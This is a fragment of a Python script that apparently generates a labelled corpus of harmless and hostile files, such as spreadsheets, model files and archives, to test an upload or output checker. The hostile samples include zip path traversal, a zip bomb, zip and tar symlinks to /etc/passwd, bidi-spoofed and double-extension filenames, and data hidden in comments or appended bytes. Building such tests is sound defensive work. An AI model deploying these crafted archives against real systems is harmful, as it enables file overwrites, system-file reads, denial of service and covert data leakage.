    from safetensors.numpy import save as st
    put("harmless", f"w{i}.safetensors", "safetensors-coefficients", "safetensors", st({"coef": X[0], "intercept": X[0, :1]}))
    put("hostile", f"x{i}.safetensors", "safetensors-records", "safetensors", st({"X": X}))
    put("hostile", f"df{i}.dta", "dta-rows", "pandas", (lambda b: (rows(60).to_stata(b, version=118), b.getvalue())[1])(io.BytesIO()))
    put("hostile", f"knn{i}.pmml", "pmml-training-instances", "by hand", '<?xml version="1.0"?><PMML version="4.4"><NearestNeighborModel><TrainingInstances><InlineTable>' + "<row><a>1</a></row>" * 30 + "</InlineTable></TrainingInstances></NearestNeighborModel></PMML>")
    put("harmless", f"reg{i}.pmml", "pmml-regression", "by hand", '<?xml version="1.0"?><PMML version="4.4"><RegressionModel functionName="regression"><RegressionTable intercept="1.5"><NumericPredictor name="age" coefficient="0.03"/></RegressionTable></RegressionModel></PMML>')
    # --- archives, names ---
    def z(members, **k):
        b = io.BytesIO(); q = zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED)
        for n, d in members: q.writestr(n, d)
        if k.get("comment"): q.comment = k["comment"]
        q.close(); return b.getvalue()
    ok = summary(i).to_csv(index=False)
    put("harmless", f"pack{i}.zip", "zip-clean", "zipfile", z([("a.csv", ok), ("b.png", png)]))
    t = io.BytesIO(); q = tarfile.open(fileobj=t, mode="w:gz"); ti = tarfile.TarInfo("a.csv"); ti.size = len(ok); q.addfile(ti, io.BytesIO(ok.encode())); q.close(); put("harmless", f"pack{i}.tgz", "tgz-clean", "tarfile", t.getvalue())
    put("harmless", f"a{i}.csv.gz", "gzip-clean", "gzip", gzip.compress(ok.encode(), mtime=0))
    put("hostile", f"slip{i}.zip", "zip-traversal", "zipfile", z([("../../a.csv", ok)]))
    put("hostile", f"inner{i}.zip", "zip-rows-inside", "zipfile", z([("x.zip", z([("r.csv", rows(40).to_csv(index=False))]))]))
    put("hostile", f"bomb{i}.zip", "zip-bomb", "zipfile", z([("a.csv", b"0" * (30 << 20))]))
    put("hostile", f"com{i}.zip", "zip-comment", "zipfile", z([("a.csv", ok)], comment=rows(5).to_csv().encode()))
    put("hostile", f"front{i}.zip", "zip-data-before", "by hand", rows(5).to_csv().encode() + z([("a.csv", ok)]))
    put("hostile", f"trail{i}.zip", "zip-data-after", "by hand", z([("a.csv", ok)]) + rows(5).to_csv().encode())
    put("hostile", f"dup{i}.zip", "zip-duplicate", "zipfile", z([("a.csv", ok), ("a.csv", ok + "x,1,1,1\n")]))
    b = io.BytesIO(); q = zipfile.ZipFile(b, "w"); zi = zipfile.ZipInfo("link.csv"); zi.create_system = 3; zi.external_attr = 0o120777 << 16; q.writestr(zi, "/etc/passwd"); q.close(); put("hostile", f"link{i}.zip", "zip-link", "zipfile", b.getvalue())
    put("hostile", f"git{i}.zip", "zip-version-control", "zipfile", z([("p/.git/config", "[core]\n"), ("a.csv", ok)]))
    t = io.BytesIO(); q = tarfile.open(fileobj=t, mode="w"); ti = tarfile.TarInfo("l.csv"); ti.type = tarfile.SYMTYPE; ti.linkname = "/etc/passwd"; q.addfile(ti); q.close(); put("hostile", f"link{i}.tar", "tar-link", "tarfile", t.getvalue())
    put("hostile", f"gz{i}.csv.gz", "gzip-rows", "gzip", gzip.compress(rows(40).to_csv(index=False).encode(), mtime=0))
    put("hostile", f"{nhs()}.csv", "name-nhs-number", "by hand", ok)
    put("hostile", f"table{i}.csv.exe", "name-double-ending", "by hand", ok)
    put("hostile", f"t{chr(0x202e)}vsc{i}.csv", "name-bidi", "by hand", ok)
    put("hostile", base64.urlsafe_b64encode(f"72,M,I21,2023-01-{i + 10},LS6 3AB".encode()).decode().rstrip("=") + ".csv", "name-encoded", "by hand", ok)
    put("hostile", f"fake{i}.csv", "type-mismatch", "matplotlib", png)
    put("hostile", f"prog{i}.bin", "type-unknown", "by hand", os.urandom(300))
    put("hostile", f"old{i}.xls", "type-not-allowed", "by hand", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + os.urandom(600))
log.close()

# LibreOffice, from files made above
def office(src, to, label, technique):
    tmp = f"{out}/lo"; os.makedirs(tmp, exist_ok=True)
    subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{os.path.abspath(tmp)}/profile", "--convert-to", to, "--outdir", tmp, *src], check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    with open(f"{out}/py.tsv", "a") as l:
        for s in src:
            n = os.path.splitext(os.path.basename(s))[0] + "." + to.split(":")[0]
            os.replace(f"{tmp}/{n}", f"{out}/{label}/lo-{n}"); l.write(f"{label}\tlo-{n}\t{technique}\tLibreOffice\n")
if "--no-office" not in sys.argv:
    H, G = [f"{out}/hostile/", f"{out}/harmless/"]
    r = range(N)
    office([f"{G}book{i}.xlsx" for i in r], "ods", "harmless", "ods-summary")
    office([f"{G}styled{i}.xlsx" for i in r], "xlsx:Calc MS Excel 2007 XML", "harmless", "xlsx-summary")
    office([f"{H}very{i}.xlsx" for i in r] , "ods", "hostile", "ods-hidden-sheet")
    office([f"{H}comment{i}.xlsx" for i in r], "ods", "hostile", "ods-comment")
    office([f"{H}hrow{i}.xlsx" for i in r], "ods", "hostile", "ods-hidden-row")
    office([f"{H}very{i}.xlsx" for i in r], "xlsx:Calc MS Excel 2007 XML", "hostile", "xlsx-hidden-sheet")
    office([f"{G}doc{i}.docx" for i in r], "pdf", "harmless", "pdf-text")
    office([f"{G}book{i}.xlsx" for i in r], "pdf", "harmless", "pdf-table")
    office([f"{G}doc{i}.docx" for i in r], "docx:MS Word 2007 XML", "harmless", "docx-text")
